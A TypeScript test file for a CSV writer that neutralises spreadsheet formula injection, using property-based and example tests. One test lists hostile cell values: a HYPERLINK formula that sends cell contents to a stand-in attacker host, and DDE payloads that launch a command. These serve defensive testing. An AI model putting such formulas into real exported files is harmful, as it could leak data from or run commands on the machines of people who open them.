import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvField, defuseFormula, toCsv } from "@/lib/csv/write";
import { readCsv } from "../fixtures/csv";

// The one CSV writer: what a spreadsheet would run as a formula is written as text, and anything
// else reads back exactly as it was given.

const FORMULA_LIKE = /^[=+\-@\t\r]/;

// Strings rich in what breaks CSV files and spreadsheets: separators, quotes, line breaks, and
// the characters that start a formula, at any place.
const tricky = fc.string({
  unit: fc.oneof(
    fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", " ", "'", "|", "＝", "\u00a0"),
    fc.string({ minLength: 1, maxLength: 1, unit: "grapheme" }),
  ),
  maxLength: 30,
});

const undefuse = (field: string, given: string) =>
  field === given ? field : field.startsWith("'") ? field.slice(1) : field;

describe("lib/csv/write", () => {
  it("any text reads back through an RFC 4180 reader, with a leading ' only where it was defused", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(tricky, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }),
        fc.boolean(),
        (rows, bom) => {
          const back = readCsv(toCsv(rows, { bom }));
          expect(back).toEqual(rows.map((row) => row.map(defuseFormula)));
          for (const [r, row] of back.entries())
            for (const [c, field] of row.entries()) {
              expect(field).not.toMatch(FORMULA_LIKE);
              const given = rows[r]![c]!;
              expect(undefuse(field, given)).toBe(given);
              // Text that starts with a letter, digit or quote is never touched.
              if (/^[\p{L}\p{N}'"]/u.test(given)) expect(field).toBe(given);
            }
        },
      ),
      { numRuns: 500 },
    );
  });

  it("text a spreadsheet would run is defused; other text is left as it is", () => {
    for (const hostile of [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-1+1",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "  =1+1",
      "＝1+1",
    ])
      expect(defuseFormula(hostile), JSON.stringify(hostile)).toBe(`'${hostile}`);
    for (const plain of ["Jo Smith", "a=b", "1+1", "e-mail", "'quoted", "", "O'Brien", "Ünal"])
      expect(defuseFormula(plain)).toBe(plain);
  });

  it("quotes every text field, ends each record with CRLF, and marks UTF-8 when asked", () => {
    expect(
      toCsv([
        ["name", "note"],
        ["Smith, Jo", 'say "hi"'],
        ["two\nlines", ""],
      ]),
    ).toBe('"name","note"\r\n"Smith, Jo","say ""hi"""\r\n"two\nlines",""\r\n');
    expect(toCsv([["é"]], { bom: true })).toBe('\uFEFF"é"\r\n');
    expect(toCsv([])).toBe("");
  });

  it("numbers are written as numbers, empty cells as empty fields", () => {
    expect(csvField(-1.5)).toBe("-1.5");
    expect(csvField(Number.NaN)).toBe("");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(toCsv([[null, 3, "-3"]])).toBe(`,3,"'-3"\r\n`);
  });
});
